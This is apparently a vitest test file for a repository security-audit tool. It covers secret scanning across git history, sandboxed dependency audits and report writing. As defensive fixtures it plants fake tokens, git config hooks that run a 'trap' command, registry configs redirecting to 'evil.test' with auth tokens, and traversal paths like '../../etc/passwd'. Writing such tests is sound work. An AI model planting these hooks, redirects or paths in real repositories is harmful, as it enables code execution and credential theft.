import { readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import * as z from 'zod';
import { withAuditFolder } from '../../../../src/app/actions/audit/auditFolder.ts';
import { dependencyAuditAction } from '../../../../src/app/actions/audit/dependencyAuditAction.ts';
import { findingsReportAction } from '../../../../src/app/actions/audit/findingsReportAction.ts';
import { mergeFindingsAction } from '../../../../src/app/actions/audit/mergeFindingsAction.ts';
import { secretScanAction } from '../../../../src/app/actions/audit/secretScanAction.ts';
import { documentIn } from '../../../../src/app/actions/panelDocument.ts';
import { systemClock } from '../../../../src/base/clock.ts';
import type { JsonValue } from '../../../../src/base/json.ts';
import { findingsIn } from '../../../../src/core/audit/finding.ts';
import { ActionStage } from './actionStage.ts';

const TOKEN = `${'ghp'}_9aB3kLmN0pQrStUvWxYz2CdEfGhIjK4oP7q8`;
const KEY = `${'AKIA'}Q3EGTW5YZ7KLM2NB`;

describe('the action secret-scan', () => {
  it('finds a secret of today and one that was taken out, and shows neither', async () => {
    const stage = new ActionStage();
    stage.git('init', '--quiet');
    stage.write('café/old.env', `KEY=${KEY}\n`);
    stage.commit('leak');
    stage.write('café/old.env', 'KEY=from the environment\n');
    stage.write('src/now.ts', `// one\nconst token = '${TOKEN}';\n`);
    stage.write('logo.png', new Uint8Array([0x89, 0x50, 0, 1, 2]));
    stage.commit('clean');
    const output = await secretScanAction.run({}, stage.context());
    const { findings = [], checked = [], skipped = [] } = findingsIn(output) ?? {};
    expect(findings).toMatchObject([
      { file: 'src/now.ts', line: 2, rule: 'github-token' },
      { file: 'café/old.env', rule: 'aws-access-key', commit: stage.git('rev-parse', 'HEAD~1').trim() },
    ]);
    expect(checked.join()).toContain('2 commits of all branches');
    expect(skipped.join()).toContain('logo.png: binary');
    expect(JSON.stringify(output)).not.toContain(TOKEN.slice(0, 12));
    expect(JSON.stringify(output)).not.toContain(KEY.slice(0, 10));
  });

  it('finds what only a merge, a stash or the message of a commit holds, and names what git shows no lines of', async () => {
    const stage = new ActionStage();
    stage.git('init', '--quiet', '-b', 'main');
    stage.write('a.txt', 'base\n');
    stage.write('.gitattributes', 'hidden.env binary\n');
    stage.write('hidden.env', 'nothing yet\n');
    stage.commit('base');
    stage.git('checkout', '--quiet', '-b', 'other');
    stage.write('a.txt', 'other\n');
    stage.commit('other');
    stage.git('checkout', '--quiet', 'main');
    stage.write('a.txt', 'main\n');
    stage.commit(`main\n\nThe key is ${KEY}.`);
    expect(() => stage.git('merge', 'other')).toThrow();
    stage.write('a.txt', `merged\ntoken = '${TOKEN}'\n`);
    stage.commit('merge');
    stage.write('a.txt', 'clean\n');
    stage.commit('clean');
    stage.write('a.txt', `${'xoxb'}-2834729384-9384729384-aB3kLmN0pQrStUvWxYz2CdEf\n`);
    stage.git('stash', '--quiet');
    const { findings = [], skipped = [] } = findingsIn(await secretScanAction.run({}, stage.context())) ?? {};
    const found = findings.map(({ rule, file, commit }) => [rule, file, commit]);
    expect(found.toSorted()).toEqual([
      ['aws-access-key', undefined, stage.git('rev-parse', 'HEAD~1^1').trim()],
      ['github-token', 'a.txt', stage.git('rev-parse', 'HEAD~1').trim()],
      ['slack-token', 'a.txt', stage.git('rev-parse', 'refs/stash').trim()],
    ]);
    expect(skipped.join()).toContain('hidden.env: binary in the history');
  });

  it('looks at files that were never committed, but not at those that git ignores', async () => {
    const stage = new ActionStage();
    stage.git('init', '--quiet');
    stage.write('.gitignore', '.env\n');
    stage.write('.env', `TOKEN=${TOKEN}\n`);
    stage.write('new.txt', `TOKEN=${TOKEN}\n`);
    const findings = findingsIn(await secretScanAction.run({}, stage.context()))?.findings;
    expect(findings?.map(({ file }) => file)).toEqual(['new.txt']);
  });

  it('works without a repository, and says that there is no history', async () => {
    const stage = new ActionStage();
    stage.write('a.txt', `TOKEN=${TOKEN}\n`);
    stage.write('node_modules/x/a.txt', `TOKEN=${TOKEN}\n`);
    const found = findingsIn(await secretScanAction.run({}, stage.context()));
    expect(found?.findings.map(({ file }) => file)).toEqual(['a.txt']);
    expect(found?.skipped.join()).toContain('in no git repository');
  });

  it('starts nothing that the repository names in its configuration', async () => {
    const stage = new ActionStage();
    stage.git('init', '--quiet');
    const trap = `touch ${path.join(stage.root, 'sprung')}`;
    stage.write('.gitattributes', '* diff=trap\n');
    stage.write('a.txt', 'a\n');
    stage.commit('one');
    stage.git('config', 'diff.trap.textconv', trap);
    stage.git('config', 'diff.trap.command', trap);
    stage.git('config', 'diff.external', trap);
    stage.git('config', 'core.fsmonitor', trap);
    await secretScanAction.run({}, stage.context());
    expect(stage.has('../sprung')).toBe(false);
  });

  it('stops when it is told to', async () => {
    const stage = new ActionStage();
    stage.write('a.txt', 'a\n');
    stage.abort.abort(new Error('stopped'));
    await expect(secretScanAction.run({}, stage.context())).rejects.toThrow('stopped');
  });
});

describe('the action dependency-audit', () => {
  const TRAPS = ['.npmrc', '.pnpmfile.cjs', '.yarnrc', '.yarnrc.yml', 'pnpm-workspace.yaml', '.cargo', 'setup.py'];
  const NODE_MANIFEST = {
    dependencies: { lodash: '1.0.0' },
    scripts: { preaudit: 'evil' },
    packageManager: 'pnpm@9.0.0+evil',
    devEngines: { packageManager: { name: 'evil' } },
    workspaces: ['evil'],
    pnpm: { configDependencies: { evil: '1' } },
  };
  const COMPOSER_MANIFEST = {
    require: { 'a/lodash': '1' },
    repositories: [{ type: 'composer', url: 'https://evil.test' }],
  };
  const REPORT = {
    vulnerabilities: {
      minimist: {
        name: 'minimist',
        severity: 'critical',
        via: [{ title: 'Prototype pollution', url: 'https://x.test/1' }],
        fixAvailable: true,
      },
    },
  };

  it('asks the audit of npm, which ends with a code of its own, and names the line', async () => {
    const stage = new ActionStage();
    stage.write('web/package.json', '{\n  "dependencies": {\n    "minimist": "0.0.1"\n  }\n}\n');
    stage.write('web/package-lock.json', '{}');
    stage.program('npm', `[ "$1 $2" = "audit --json" ] && cat <<'END'\n${JSON.stringify(REPORT)}\nEND\nexit 1`);
    const found = findingsIn(await dependencyAuditAction.run({}, stage.context()));
    expect(found).toMatchObject({
      findings: [{ severity: 'critical', file: 'web/package.json', line: 3 }],
      checked: ['web/package-lock.json, by npm.'],
      skipped: [],
    });
  });

  it.each([
    ['npm', 'npm', 'package-lock.json', 'package.json'],
    ['pnpm', 'pnpm', 'pnpm-lock.yaml', 'package.json'],
    ['yarn', 'yarn', 'yarn.lock', 'package.json'],
    ['pip', 'pip-audit', 'requirements.txt', ''],
    ['cargo', 'cargo-audit', 'Cargo.lock', ''],
    ['composer', 'composer', 'composer.lock', 'composer.json'],
  ])('shows %s no other file of the repository, and no keys', async (_tool, program, lock, manifest) => {
    const stage = new ActionStage();
    for (const trap of TRAPS) {
      stage.write(`web/${trap}`, 'registry=https://evil.test/\n//evil.test/:_authToken=${DEPLOY_TOKEN}\n');
    }
    stage.write('web/package.json', JSON.stringify(NODE_MANIFEST));
    stage.write('web/composer.json', JSON.stringify(COMPOSER_MANIFEST));
    stage.write(`web/${lock}`, 'lodash==1.0\n--index-url https://evil.test/\n');
    const seen = path.join(stage.root, 'seen');
    stage.program(program, `{ ls -A; env | cut -d= -f1; } >'${seen}'; cat package.json composer.json >'${seen}.json'`);
    await dependencyAuditAction.run(
      {},
      stage.context({ ANTHROPIC_API_KEY: 'k', DEPLOY_TOKEN: 't', STRIPE_KEY: 's', COMPOSER_AUTH: 'c', HARMLESS: 'h' }),
    );
    const lines = readFileSync(seen, 'utf8').split('\n');
    expect(lines.filter(line => TRAPS.includes(line) || /^(package|composer)\.json$/.test(line))).toEqual(
      manifest === '' ? [] : [manifest],
    );
    expect(lines).toContain(lock);
    expect(lines).toContain('HARMLESS');
    expect(lines.filter(line => /KEY|TOKEN|COMPOSER_AUTH/.test(line))).toEqual([]);
    const given = readFileSync(`${seen}.json`, 'utf8');
    expect(given).not.toContain('evil');
    expect(given.includes('lodash')).toBe(manifest !== '');
    expect(readdirSync(path.join(stage.root, 'home'))).toEqual([]);
  });

  it('runs no tool below the folder that is audited', async () => {
    const stage = new ActionStage();
    stage.write('package-lock.json', '{}');
    const seen = path.join(stage.root, 'seen');
    stage.program('npm', `pwd >'${seen}'`);
    const home = path.join(stage.folder, 'home');
    await dependencyAuditAction.run({}, stage.context({ CLAUDE_PANEL_HOME: home }));
    expect(path.relative(stage.folder, readFileSync(seen, 'utf8').trim())).toMatch(/^\.\./);
    const use = (): Promise<string> => Promise.reject(new Error('must not be used'));
    expect(await withAuditFolder({ folder: tmpdir(), home }, [], use)).toBeUndefined();
  });

  it('says which tools are missing or could not look, and fails for none of them', async () => {
    const stage = new ActionStage();
    stage.write('Cargo.lock', '');
    stage.write('go.sum', '');
    stage.write('package-lock.json', '{}');
    stage.program('npm', `echo '{"error":{"code":"ENOTFOUND","summary":"no network"}}'; exit 1`);
    const found = findingsIn(await dependencyAuditAction.run({}, stage.context()));
    expect(found?.findings).toEqual([]);
    const said = found?.skipped.join('\n');
    expect(said).toContain('Cargo.lock: cargo-audit is not installed. Install it with: cargo install cargo-audit');
    expect(said).toContain('go.sum: run govulncheck');
    expect(said).toContain('package-lock.json: npm could not check it: no network');
  });

  it('says so when there is nothing to look at', async () => {
    const stage = new ActionStage();
    expect(findingsIn(await dependencyAuditAction.run({}, stage.context()))?.skipped).toEqual([
      'dependencies: there is no lock file.',
    ]);
  });
});

describe('the actions merge-findings and findings-report', () => {
  const report = findingsReportAction({ clock: systemClock });
  const write = async (stage: ActionStage, outputs: Readonly<Record<string, JsonValue>>): Promise<JsonValue> => {
    const merged = z.object({ parts: z.json() }).parse(await mergeFindingsAction.run(outputs, stage.context()));
    return report.run({ parts: merged.parts }, stage.context());
  };
  const SECRETS = {
    findings: [{ severity: 'critical', source: 'secrets', title: 'Key', file: 'a.env', line: 1 }],
    checked: [],
    skipped: [],
  };

  it('writes a document and gives the findings, the worst first', async () => {
    const stage = new ActionStage();
    stage.write('src/a.ts', 'one\ntwo\n');
    const review = {
      summary: 'Looked at the handlers.',
      findings: [
        { severity: 'high', title: 'SQL built from a request', file: 'src/a.ts', line: 2, detail: 'why', remedy: null },
        { severity: 'low', title: 'A line that is not there', file: 'src/a.ts', line: 200 },
        { severity: 'low', title: 'A file that is not there', file: 'src/b.ts', line: 2 },
        { severity: 'dreadful', title: 'Not as asked' },
        { severity: 'high', title: 'Outside', file: '../../etc/passwd', line: 1 },
      ],
    };
    const output = await write(stage, { secrets: SECRETS, review });
    const { findings = [], skipped } = findingsIn(output) ?? {};
    expect(findings.map(({ title, line }) => [title, line])).toEqual([
      ['Key', 1],
      ['SQL built from a request', 2],
      ['A file that is not there', undefined],
      ['A line that is not there', undefined],
    ]);
    expect(skipped).toEqual(['2 findings of the review that were not written as asked.']);
    const text = stage.read(documentIn(output)?.document ?? '');
    expect(text).toContain('**1 critical, 1 high, 2 low.**');
    expect(text).toContain('**Dependencies**: not done');
    expect(text).toContain('Looked at the handlers.');
  });

  it('masks a secret that the reviewer quotes', async () => {
    const stage = new ActionStage();
    const quoted = `It is written out: ${TOKEN}`;
    const review = {
      summary: quoted,
      findings: [{ severity: 'high', title: quoted, detail: `One\n${quoted}`, remedy: quoted }],
    };
    const output = await write(stage, { review });
    const masked = 'It is written out: ghp_…, 40 characters';
    expect(findingsIn(output)).toMatchObject({
      findings: [{ title: masked, detail: `One\n${masked}`, remedy: masked }],
      checked: [masked],
    });
    expect(stage.read(documentIn(output)?.document ?? '')).not.toContain(TOKEN.slice(0, 8));
  });

  it.each([
    ['a line about many files', { skipped: [`${'long/name/of/a/folder/'.repeat(200)}: larger than 2 MB.`] }],
    ['characters that are hidden', { checked: [`${'\u202e'.repeat(250)}/package-lock.json, by npm.`] }],
    ['a long detail', { findings: [{ ...SECRETS.findings[0], title: 'Long', detail: '\u200b'.repeat(4000) }] }],
    ['a name that could be of a disk', { findings: [{ ...SECRETS.findings[0], title: 'Disk', file: 'c:key.env' }] }],
    ['a name with dots', { findings: [{ ...SECRETS.findings[0], title: 'Up', file: '../key.env' }] }],
  ])('hide nothing because of %s', async (_what, more) => {
    const findings = 'findings' in more ? more.findings : [];
    const secrets = { ...SECRETS, ...more, findings: [...SECRETS.findings, ...findings] };
    const output = await write(new ActionStage(), { secrets });
    const found = findingsIn(output);
    const titles = ['Key', ...findings.map(({ title }) => title)];
    expect(found?.findings.map(({ title }) => title).sort()).toEqual(titles.sort());
    expect(found?.findings.filter(({ file = '' }) => /^\.\.|:/.test(file))).toEqual([]);
  });

  it('writes no report of something else', async () => {
    const stage = new ActionStage();
    for (const parts of [SECRETS, [{ title: 'Secrets', findings: 'none' }], 'nothing']) {
      await expect(report.run({ parts } as never, stage.context())).rejects.toMatchObject({ reason: 'badActionInput' });
    }
    expect(stage.has('.claude-panel/reports')).toBe(false);
  });

  it('writes a second document beside the first one', async () => {
    const stage = new ActionStage();
    const one = documentIn(await write(stage, { secrets: SECRETS }));
    const two = documentIn(await write(stage, { secrets: SECRETS }));
    expect(one?.document).not.toBe(two?.document);
  });

  it('writes nothing through a link that leads out of the folder', async () => {
    const stage = new ActionStage();
    stage.write('.claude-panel/.gitignore', '*\n');
    symlinkSync(stage.root, path.join(stage.folder, '.claude-panel', 'reports'));
    await expect(write(stage, { secrets: SECRETS })).rejects.toMatchObject({ reason: 'reportsOutside' });
  });
});
